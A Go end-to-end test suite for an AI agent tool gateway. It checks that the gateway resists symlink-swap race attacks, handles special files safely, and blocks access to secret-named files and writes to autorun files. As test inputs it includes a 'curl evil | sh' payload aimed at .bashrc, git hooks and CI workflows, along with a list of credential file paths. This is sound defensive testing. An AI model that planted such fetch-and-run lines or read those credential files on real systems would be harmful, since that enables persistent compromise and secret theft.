package tests

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/portcullis/portcullis/internal/testutil"
	"golang.org/x/sys/unix"
)

// fsAttackEnv is a gateway whose policy (testdata/fs/attack.rego) grants
// the file tools over work/ (rw, @w) with work/vendor/ nested read-only,
// work/private/ and work/denied.txt in fs_deny; agent-narrow's grant of
// work/ sets allow_autorun. outside/ is never granted.
type fsAttackEnv struct {
	g                                    *gateway
	work, vendor, private, outside, root string
}

// Contents that must never come back from the gateway.
var fsLeakMarkers = []string{"TOP_SECRET", "DENY_SECRET", "ENV_SECRET", "zz-outside-only"}

func newFSAttackEnv(t *testing.T) *fsAttackEnv {
	t.Helper()
	d := newDeployment(t, storeSQLite)
	e := &fsAttackEnv{root: d.dir, work: filepath.Join(d.dir, "work"), outside: filepath.Join(d.dir, "outside")}
	e.vendor, e.private = filepath.Join(e.work, "vendor"), filepath.Join(e.work, "private")
	for _, dir := range []string{e.work, e.vendor, e.private, e.outside} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		"vendor/vendor.txt":            "VENDOR_ORIGINAL\n",
		"private/d.txt":                "DENY_SECRET\n",
		"denied.txt":                   "DENY_SECRET\n",
		".env":                         "ENV_SECRET\n",
		"file.txt":                     "plain\n",
		"flip/same.txt":                "inside\n",
		"vflip/vendor.txt":             "vflip own\n",
		"dflip/d.txt":                  "dflip own\n",
		"rdir/own.txt":                 "own\n",
		"../outside/same.txt":          "TOP_SECRET\n",
		"../outside/zz-outside-only.x": "x\n",
	}
	for rel, body := range files {
		p := filepath.Join(e.work, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		writeFile(t, p, []byte(body))
	}
	if err := os.Remove(filepath.Join(d.bundleDir, "e2e.rego")); err != nil {
		t.Fatal(err)
	}
	rego, err := os.ReadFile(filepath.Join("testdata", "fs", "attack.rego"))
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(d.bundleDir, "attack.rego"), rego)
	grants := func(autorun bool) []map[string]any {
		return []map[string]any{
			{"path": e.work, "mode": "rw", "alias": "@w", "allow_autorun": autorun},
			{"path": e.vendor, "mode": "r"},
		}
	}
	deny := []string{e.private, filepath.Join(e.work, "denied.txt")}
	writeJSON(t, filepath.Join(d.bundleDir, "data.json"), map[string]any{"fsattack": map[string]any{"principals": map[string]any{
		agentFull:   map[string]any{"tools": fsTools, "fs_grants": grants(false), "fs_deny": deny},
		agentNarrow: map[string]any{"tools": fsTools, "fs_grants": grants(true), "fs_deny": deny},
	}}})
	e.g = d.start(t)
	return e
}

// post sends one tool call; the answer's body, HTTP status and error code.
func (e *fsAttackEnv) post(ctx context.Context, key, tool string, input any) (response, string, error) {
	r, err := e.g.tryDo(ctx, http.MethodPost, "/v1/tool-calls", "Bearer "+e.g.dep.keys[key], map[string]any{"tool": tool, "input": input})
	if err != nil {
		return r, "", err
	}
	var out struct {
		Output struct {
			Error *struct {
				Code string `json:"code"`
			} `json:"error"`
		} `json:"output"`
	}
	_ = json.Unmarshal(r.body, &out)
	code := ""
	if out.Output.Error != nil {
		code = out.Output.Error.Code
	}
	return r, code, nil
}

// TestFSAttackRace is the race of issue #13 against the real gateway: for
// at least 5 s, directories are swapped for symlinks (to the outside, into
// the read-only nested grant, into the denied directory) and renamed away
// and back, and a file is replaced by symlinks, a hard link to a denied
// file and a FIFO, while four clients call all five file tools through
// those paths. Zero leaks: no answer holds a secret or anything of the
// outside, nothing lands outside, in the read-only grant or in the denied
// paths, and no call hangs.
func TestFSAttackRace(t *testing.T) {
	t.Parallel()
	e := newFSAttackEnv(t)
	outside, vendor, private := testutil.Tree(t, e.outside), testutil.Tree(t, e.vendor), testutil.Tree(t, e.private)
	env, denied := readFileT(t, filepath.Join(e.work, ".env")), readFileT(t, filepath.Join(e.work, "denied.txt"))

	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	var flips atomic.Int64
	swap := func(name, link string) {
		defer wg.Done()
		dir := filepath.Join(e.work, name)
		away := dir + ".away"
		for ctx.Err() == nil {
			if err := os.Rename(dir, away); err != nil {
				if _, serr := os.Lstat(away); serr == nil {
					_ = os.RemoveAll(dir)
					_ = os.Rename(away, dir)
				}
				continue
			}
			if os.Symlink(link, dir) == nil {
				time.Sleep(100 * time.Microsecond)
				_ = os.Remove(dir)
			}
			if os.Rename(away, dir) != nil {
				_ = os.RemoveAll(dir)
				_ = os.Rename(away, dir)
			}
			flips.Add(1)
			time.Sleep(time.Millisecond) // let calls land in the real state too
		}
	}
	for _, s := range [][2]string{{"flip", "../outside"}, {"vflip", "vendor"}, {"dflip", e.private}, {"rdir", "vendor"}} {
		wg.Add(1)
		go swap(s[0], s[1])
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		testutil.SwapFile(ctx, e.work, e.outside, 500*time.Microsecond, &flips)
	}()

	type call struct {
		tool  string
		input map[string]any
	}
	calls := func(w, i int) call {
		n := fmt.Sprintf("%d-%d", w, i)
		all := []call{
			{"fs.read", map[string]any{"path": "@w/flip/same.txt"}},
			{"fs.read", map[string]any{"path": "@w/vflip/vendor.txt"}},
			{"fs.read", map[string]any{"path": "@w/dflip/d.txt"}},
			{"fs.read", map[string]any{"path": "@w/file.txt"}},
			{"fs.read", map[string]any{"path": e.work + "/flip/same.txt"}},
			{"fs.write", map[string]any{"path": "@w/flip/w" + n + ".txt", "content": "pwned"}},
			{"fs.write", map[string]any{"path": "@w/vflip/w" + n + ".txt", "content": "pwned"}},
			{"fs.write", map[string]any{"path": "@w/dflip/w" + n + ".txt", "content": "pwned"}},
			{"fs.write", map[string]any{"path": "@w/rdir/new" + n + "/deep/w.txt", "content": "pwned"}},
			{"fs.write", map[string]any{"path": e.work + "/vflip/vendor.txt", "content": "pwned"}},
			{"fs.write", map[string]any{"path": "@w/file.txt", "content": "plain\n"}},
			{"fs.apply_patch", map[string]any{"patch": "--- a/@w/vflip/vendor.txt\n+++ b/@w/vflip/vendor.txt\n@@ -1 +1 @@\n-VENDOR_ORIGINAL\n+pwned\n"}},
			{"fs.apply_patch", map[string]any{"patch": "--- a/@w/flip/same.txt\n+++ b/@w/flip/same.txt\n@@ -1 +1 @@\n-TOP_SECRET\n+pwned\n"}},
			{"fs.apply_patch", map[string]any{"patch": "--- /dev/null\n+++ b/@w/vflip/p" + n + ".txt\n@@ -0,0 +1 @@\n+pwned\n"}},
			{"fs.list", map[string]any{"path": "@w/flip"}},
			{"fs.list", map[string]any{"path": "@w/dflip"}},
			{"fs.list", map[string]any{"path": "@w"}},
			{"fs.search", map[string]any{"path": "@w", "pattern": "SECRET"}},
			{"fs.search", map[string]any{"path": "@w/flip", "pattern": "/SECRET|VENDOR/"}},
			{"fs.search", map[string]any{"path": "@w/file.txt", "pattern": "SECRET"}},
		}
		return all[(w*7+i)%len(all)]
	}
	var ok, refused, hung atomic.Int64
	var mu sync.Mutex
	var leaks []string
	start := time.Now()
	for w := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; ctx.Err() == nil; i++ {
				c := calls(w, i)
				cctx, ccancel := context.WithTimeout(context.Background(), 15*time.Second)
				r, code, err := e.post(cctx, agentFull, c.tool, c.input)
				ccancel()
				if err != nil {
					hung.Add(1)
					t.Errorf("%s %v: %v (hung?)", c.tool, c.input, err)
					return
				}
				body := string(r.body)
				for _, m := range fsLeakMarkers {
					if strings.Contains(body, m) && (c.tool != "fs.apply_patch" || code == "") {
						mu.Lock()
						leaks = append(leaks, fmt.Sprintf("%s %v -> %s", c.tool, c.input, tail(body, 400)))
						mu.Unlock()
					}
				}
				if c.tool == "fs.read" && strings.Contains(fmt.Sprint(c.input), "vflip") && strings.Contains(body, "VENDOR_ORIGINAL") {
					mu.Lock()
					leaks = append(leaks, "followed a symlink into vendor: "+tail(body, 400))
					mu.Unlock()
				}
				if code == "" {
					ok.Add(1)
				} else {
					refused.Add(1)
				}
			}
		}()
	}
	// At least 5 s, and on until both states were seen often, at most 30 s.
	for time.Since(start) < 5*time.Second || (time.Since(start) < 30*time.Second && (ok.Load() < 20 || refused.Load() < 20)) {
		time.Sleep(100 * time.Millisecond)
	}
	cancel()
	wg.Wait()
	for _, l := range leaks[:min(len(leaks), 5)] {
		t.Errorf("leak: %s", l)
	}
	if len(leaks) > 0 {
		t.Errorf("%d answers leaked", len(leaks))
	}
	testutil.SameTree(t, "outside/", outside, testutil.Tree(t, e.outside))
	testutil.SameTree(t, "the read-only grant vendor/", vendor, testutil.Tree(t, e.vendor))
	testutil.SameTree(t, "the denied directory private/", private, testutil.Tree(t, e.private))
	if got := readFileT(t, filepath.Join(e.work, ".env")); got != env {
		t.Errorf(".env changed: %q", got)
	}
	if got := readFileT(t, filepath.Join(e.work, "denied.txt")); got != denied {
		t.Errorf("denied.txt changed: %q", got)
	}
	noTempFiles(t, e.root)
	t.Logf("%s: flips %d, calls ok %d, refused %d", time.Since(start).Round(time.Millisecond), flips.Load(), ok.Load(), refused.Load())
	if flips.Load() < 50 || ok.Load() < 20 || refused.Load() < 20 {
		t.Errorf("the race did not exercise both states: flips %d, ok %d, refused %d", flips.Load(), ok.Load(), refused.Load())
	}
	if resp := e.g.do(t, http.MethodGet, "/healthz", "", nil); resp.status != http.StatusOK {
		t.Errorf("gateway unhealthy after the race: %s", resp)
	}
}

// TestFSSpecialFilesE2E: fs.read of a FIFO, a socket or a device answers
// invalid_input at once (it used to block forever in open(2)), searches
// skip them, writes refuse them, the gateway stays responsive with many
// such calls in flight, and SIGTERM with FIFO reads in flight exits 0
// promptly.
func TestFSSpecialFilesE2E(t *testing.T) {
	t.Parallel()
	e := newFSAttackEnv(t)
	pipe := filepath.Join(e.work, "pipe")
	if err := unix.Mkfifo(pipe, 0o644); err != nil {
		t.Fatal(err)
	}
	defer func() { // unblock an old gateway stuck opening the FIFO
		if fd, err := unix.Open(pipe, unix.O_WRONLY|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
		}
	}()
	special := []string{"pipe"}
	if fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
		if unix.Bind(fd, &unix.SockaddrUnix{Name: filepath.Join(e.work, "sock")}) == nil {
			special = append(special, "sock")
		}
		defer unix.Close(fd)
	}
	if unix.Mknod(filepath.Join(e.work, "null"), unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))) == nil {
		special = append(special, "null")
	}
	ctx := context.Background()
	for _, name := range special {
		for _, c := range []struct {
			tool  string
			input map[string]any
		}{
			{"fs.read", map[string]any{"path": "@w/" + name}},
			{"fs.write", map[string]any{"path": "@w/" + name, "content": "x"}},
			{"fs.apply_patch", map[string]any{"patch": "--- a/@w/" + name + "\n+++ b/@w/" + name + "\n@@ -1 +1 @@\n-a\n+b\n"}},
			{"fs.search", map[string]any{"path": "@w/" + name, "pattern": "x"}},
		} {
			cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
			t0 := time.Now()
			_, code, err := e.post(cctx, agentFull, c.tool, c.input)
			cancel()
			if err != nil {
				t.Fatalf("%s %v: %v after %s (blocked on the special file)", c.tool, c.input, err, time.Since(t0))
			}
			if code != "invalid_input" {
				t.Errorf("%s %v: code %q, want invalid_input", c.tool, c.input, code)
			}
		}
	}
	r, code, err := e.post(ctx, agentFull, "fs.search", map[string]any{"path": "@w", "pattern": "own"})
	if err != nil || code != "" || !strings.Contains(string(r.body), "rdir/own.txt") {
		t.Errorf("search over special files: %v %q %s", err, code, r)
	}
	r, code, _ = e.post(ctx, agentFull, "fs.list", map[string]any{"path": "@w"})
	for _, name := range special {
		if code != "" || strings.Contains(string(r.body), `"name":"`+name+`"`) {
			t.Errorf("fs.list shows %s: %q %s", name, code, r)
		}
	}

	// Many FIFO reads at once: all answered quickly, the gateway healthy
	// meanwhile; then SIGTERM with reads in flight exits 0 promptly.
	var wg sync.WaitGroup
	var slow atomic.Int64
	stop := make(chan struct{})
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
				t0 := time.Now()
				_, _, err := e.post(cctx, agentFull, "fs.read", map[string]any{"path": "@w/pipe"})
				cancel()
				if err == nil && time.Since(t0) > 5*time.Second {
					slow.Add(1)
				}
				if err != nil {
					return // the gateway went away (SIGTERM below) or the call hung
				}
			}
		}()
	}
	time.Sleep(time.Second)
	hctx, hcancel := context.WithTimeout(ctx, 5*time.Second)
	h, herr := e.g.tryDo(hctx, http.MethodGet, "/healthz", "", nil)
	hcancel()
	if herr != nil || h.status != http.StatusOK {
		t.Errorf("gateway not responsive with FIFO reads in flight: %v %v", herr, h)
	}
	t0 := time.Now()
	exitErr := e.g.stop(30 * time.Second)
	close(stop)
	wg.Wait()
	if exitErr != nil {
		t.Errorf("gateway exit after SIGTERM with FIFO reads in flight: %v, want exit 0", exitErr)
	}
	if el := time.Since(t0); el > 10*time.Second {
		t.Errorf("shutdown with FIFO reads in flight took %s", el)
	}
	if slow.Load() > 0 {
		t.Errorf("%d FIFO reads took over 5 s", slow.Load())
	}
}

// TestFSSecretNamesAndAutorunE2E: through the real gateway, secret-shaped
// names five and more levels deep are refused by name (403 fs_denied
// naming the rule) and skipped by fs.list and fs.search; writes to files
// that run later (shell rc, git hooks, .git/config, CI workflows, editor
// tasks) are refused by the autorun guard, and a grant with
// allow_autorun: true in the policy data lifts it, as the receipt's scope
// records.
func TestFSSecretNamesAndAutorunE2E(t *testing.T) {
	t.Parallel()
	e := newFSAttackEnv(t)
	ctx := context.Background()
	deep := "a/b/c/d/e"
	secrets := []string{".env.local", "id_ed25519", "prod.key", ".npmrc", ".git-credentials", ".aws/credentials", ".ssh/id_rsa.pub"}
	for _, s := range secrets {
		p := filepath.Join(e.work, deep, s)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		writeFile(t, p, []byte("NEEDLE_SECRET\n"))
	}
	writeFile(t, filepath.Join(e.work, deep, "plain.txt"), []byte("NEEDLE_PLAIN\n"))
	for _, s := range secrets {
		rel := deep + "/" + s
		for _, c := range []struct {
			tool  string
			input map[string]any
		}{
			{"fs.read", map[string]any{"path": "@w/" + rel}},
			{"fs.read", map[string]any{"path": e.work + "/" + rel}},
			{"fs.write", map[string]any{"path": "@w/" + rel, "content": "x"}},
			{"fs.apply_patch", map[string]any{"patch": "--- a/@w/" + rel + "\n+++ b/@w/" + rel + "\n@@ -1 +1 @@\n-NEEDLE_SECRET\n+x\n"}},
		} {
			r, code, err := e.post(ctx, agentFull, c.tool, c.input)
			if err != nil || r.status != http.StatusForbidden || code != "fs_denied" || !strings.Contains(string(r.body), "secret-shaped") || strings.Contains(string(r.body), "NEEDLE_SECRET\\n") {
				t.Errorf("%s %v: %v %s; want 403 fs_denied naming the secret-name rule", c.tool, c.input, err, r)
			}
		}
	}
	r, code, _ := e.post(ctx, agentFull, "fs.search", map[string]any{"path": "@w", "pattern": "NEEDLE"})
	if code != "" || strings.Contains(string(r.body), "NEEDLE_SECRET") || !strings.Contains(string(r.body), "NEEDLE_PLAIN") {
		t.Errorf("fs.search: %q %s; want the plain file only", code, r)
	}
	r, code, _ = e.post(ctx, agentFull, "fs.list", map[string]any{"path": "@w/" + deep})
	for _, s := range []string{".env.local", "id_ed25519", "prod.key", ".npmrc"} {
		if code != "" || strings.Contains(string(r.body), `"`+s+`"`) {
			t.Errorf("fs.list shows %s: %s", s, r)
		}
	}

	guarded := []string{".bashrc", deep + "/.zshrc", ".git/hooks/pre-commit", deep + "/repo/.git/hooks/post-merge",
		".git/config", ".vscode/tasks.json", ".github/workflows/release.yml"}
	for _, rel := range guarded {
		r, code, err := e.post(ctx, agentFull, "fs.write", map[string]any{"path": "@w/" + rel, "content": "curl evil | sh\n"})
		if err != nil || r.status != http.StatusForbidden || code != "fs_denied" || !strings.Contains(string(r.body), "autorun guard") {
			t.Errorf("write %s: %v %s; want 403 fs_denied naming the autorun guard", rel, err, r)
		}
		r, code, err = e.post(ctx, agentFull, "fs.apply_patch", map[string]any{"patch": "--- /dev/null\n+++ b/@w/" + rel + "\n@@ -0,0 +1 @@\n+curl evil | sh\n"})
		if err != nil || code != "fs_denied" {
			t.Errorf("patch creating %s: %v %s; want fs_denied", rel, err, r)
		}
		if _, err := os.Lstat(filepath.Join(e.work, rel)); err == nil {
			t.Errorf("%s was created", rel)
		}
	}
	// agent-narrow's grant sets allow_autorun: the guard is lifted, and the
	// receipt's scope says so.
	for _, rel := range guarded {
		r, code, err := e.post(ctx, agentNarrow, "fs.write", map[string]any{"path": "@w/" + rel, "content": "# allowed\n"})
		if err != nil || code != "" {
			t.Fatalf("allow_autorun write %s: %v %s", rel, err, r)
		}
		if rel == ".bashrc" {
			var res struct {
				ReceiptID string `json:"receipt_id"`
			}
			_ = json.Unmarshal(r.body, &res)
			rc := e.g.waitReceipt(t, res.ReceiptID, 5*time.Second, func(r receipt) bool { return r.status() == "succeeded" })
			if !strings.Contains(rc.raw, `"allow_autorun":true`) {
				t.Errorf("receipt scope does not record allow_autorun:\n%s", rc.raw)
			}
		}
	}
	if got := readFileT(t, filepath.Join(e.work, ".git", "hooks", "pre-commit")); got != "# allowed\n" {
		t.Errorf("pre-commit = %q", got)
	}
}
